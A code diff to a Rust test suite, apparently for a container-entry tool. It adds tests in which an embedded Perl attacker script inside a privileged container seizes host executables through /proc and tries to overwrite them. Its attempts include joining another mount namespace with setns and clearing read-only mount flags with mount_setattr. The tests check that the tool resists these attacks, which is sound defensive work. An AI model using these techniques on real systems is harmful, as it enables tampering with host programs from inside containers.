@@ -16,6 +16,14 @@ use std::process::{Command, Stdio};
 const PERL: &[Need] = &[Need::Root, Need::Program("perl")];
 const SETPRIV: &[Need] = &[Need::Root, Need::Program("perl"), Need::Program("setpriv")];
 const MOUNT: &[Need] = &[Need::Root, Need::Program("perl"), Need::Program("mount")];
+const BUSYBOX: &[Need] = &[Need::Root, Need::Program("perl"), Need::Program("busybox")];
+const PRIVATE: &[Need] = &[
+    Need::Root,
+    Need::Program("perl"),
+    Need::Program("busybox"),
+    Need::Program("nsenter"),
+    Need::Program("unshare"),
+];
 const NSENTER: &[Need] = &[Need::Root, Need::Program("perl"), Need::Program("nsenter")];
 /// At least; as many as it takes for the attacker to have held the program [`HELD`] times.
 const JOINS: usize = 150;
@@ -39,6 +47,7 @@ pub fn tests() -> Vec<Trial> {
         }),
         test("a user's own nsx is out of reach of his container's root too", SETPRIV, of_user),
         test("a read-only mount of the host is not taken for a seal", MOUNT, remounted),
+        test("the host's programs that --tools brings cannot be written to", BUSYBOX, tools),
         test("nsenter is overwritten: the attack is real", NSENTER, || {
             overwritten(PRIVILEGED, "B", |_| vec!["true".into()]);
         }),
@@ -47,17 +56,19 @@ pub fn tests() -> Vec<Trial> {
             overwritten(OWN_USERS, "B", script);
         }),
         test("a read-only mount that its program holds is made writable", NSENTER, leaky),
+        test("one in a namespace that can be joined is made writable", PRIVATE, private),
     ]
 }
 
 /// Knows the last pid of its namespace, waits for the next one, and takes its program. What it
 /// tries, by letter: A open it for writing, B hold it and open that for writing when it has ended,
-/// C clear the mount's read-only flag, D remount it, E clear that of a clone. It says `held` for
+/// C clear the mount's read-only flag, D remount it, E clear that of a clone, F do so from within the
+/// mount namespace that it is in, if that is another. It says `held` for
 /// each process whose program it has, and what succeeded. Where a certain file appears it tries B
 /// again on all that it has held, and removes that file.
 const ATTACKER: &str = r#"
     use Fcntl;
-    my ($victim, $mount, $open_tree, $mount_setattr, $again) = @ARGV;
+    my ($victim, $mount, $open_tree, $mount_setattr, $setns, $again) = @ARGV;
     $| = 1;
     my $pid = fork // die;
     if ($pid) { sleep 1 while 1 }
@@ -74,7 +85,7 @@ const ATTACKER: &str = r#"
         # What was looked at may be another file by now.
         sysopen my $f, $path, O_WRONLY | O_APPEND or return;
         return unless is_victim($f);
-        print "opened $what\n" unless readlink("/proc/self/fd/" . fileno $f) =~ m{^/memfd:};
+        print "opened $what\n" unless (readlink("/proc/self/fd/" . fileno $f) // "") =~ m{^/memfd:};
         print "wrote $what\n" if syswrite $f, "overwritten\n";
     }
     sub clear {
@@ -94,6 +105,28 @@ const ATTACKER: &str = r#"
             POSIX::close($clone);
         }
     }
+    # From within the mount namespace that its mount is in.
+    sub go_there {
+        my ($p, $fd) = @_;
+        open my $mounts, "<", "/proc/$p/mountinfo" or return;
+        my $name = readlink "/proc/$p/exe" or return;
+        my @points = grep { index($name, $_) == 0 } map { (split " ")[4] } <$mounts>;
+        open my $namespace, "<", "/proc/$p/ns/mnt" or return;
+        my $child = fork // die;
+        if ($child) { waitpid $child, 0; return }
+        syscall($setns + 0, fileno($namespace), 0x20000) == 0 or exit;
+        for my $point (@points) {
+            my $attr = pack "QQQQ", 0, 1, 0, 0;
+            syscall($mount_setattr + 0, -100, $point, 0, $attr, 32);
+        }
+        kill "KILL", $p;
+        for (1 .. 100) {
+            # There may be no /proc there.
+            write_to("F", $_) for $name, "/proc/self/fd/" . fileno $fd;
+            select undef, undef, undef, 0.001;
+        }
+        POSIX::_exit(0);
+    }
     require POSIX;
     print "ready\n";
     while (1) {
@@ -110,6 +143,7 @@ const ATTACKER: &str = r#"
             write_to("A", "/proc/$p/exe");
             remount($fd);
             # Whatever else it has open.
+            go_there($p, $fd) if (readlink("/proc/$p/ns/mnt") // "") ne readlink("/proc/self/ns/mnt");
             for my $path (glob "/proc/$p/fd/*") {
                 sysopen my $other, $path, 010000000 or next;
                 remount($other) if is_victim($other);
@@ -155,7 +189,8 @@ impl Attack {
         let files = tempfile::tempdir().unwrap();
         let file = std::fs::metadata(victim).unwrap();
         spawn.args(["perl", "-e", ATTACKER, &format!("{}:{}", file.dev(), file.ino())]);
-        let calls = [libc::SYS_mount, libc::SYS_open_tree, libc::SYS_mount_setattr];
+        let calls =
+            [libc::SYS_mount, libc::SYS_open_tree, libc::SYS_mount_setattr, libc::SYS_setns];
         spawn.args(calls.map(|call| call.to_string())).arg(files.path().join("again"));
         let container = spawn.stdin(Stdio::null()).stdout(log.reopen().unwrap()).spawn().unwrap();
         let container = Held(container);
@@ -251,6 +286,22 @@ fn of_user() {
     assert_same(&copy);
 }
 
+/// The program is the host's, and runs where the container sees it.
+fn tools() {
+    let (directory, copy) = copy_of(&find("busybox").unwrap());
+    let before = std::fs::read(&copy).unwrap();
+    let attack = Attack::start(PRIVILEGED, &copy);
+    for _ in 0..HELD {
+        let mut command = nsx(["enter", "-t", &attack.target, "-a"]);
+        let mut tools = std::ffi::OsString::from("--tools=");
+        tools.push(directory.path());
+        output(command.arg(tools).args(["/busybox", "sleep", "0.2"]));
+        assert_eq!(attack.done(), [] as [&str; 0]);
+    }
+    assert!(attack.held() >= HELD / 2, "the attacker had it in hand {} times", attack.held());
+    assert!(std::fs::read(&copy).unwrap() == before, "the program has changed");
+}
+
 /// A mount at a path, which is unmounted with the test.
 struct Mounted(PathBuf);
 
@@ -334,4 +385,17 @@ fn leaky() {
         command
     });
     assert!(attack.done().contains(&"did C".to_owned()), "{:?}", attack.done());
+}
+
+/// Read-only in a mount namespace of its own, and nothing more: what `tools` must not be.
+fn private() {
+    let (directory, copy) = copy_of(&find("busybox").unwrap());
+    let attack = Attack::start(PRIVILEGED, &copy);
+    let script = r#"mount --bind "$1" "$1"; mount -o remount,bind,ro "$1"
+                    exec nsenter -t "$2" -p "$1/busybox" sleep 0.2"#;
+    attacked(&attack, "F", || {
+        let mut command = Command::new("unshare");
+        command.args(["-m", "sh", "-c", script, "sh"]).arg(directory.path()).arg(&attack.target);
+        command
+    });
 }
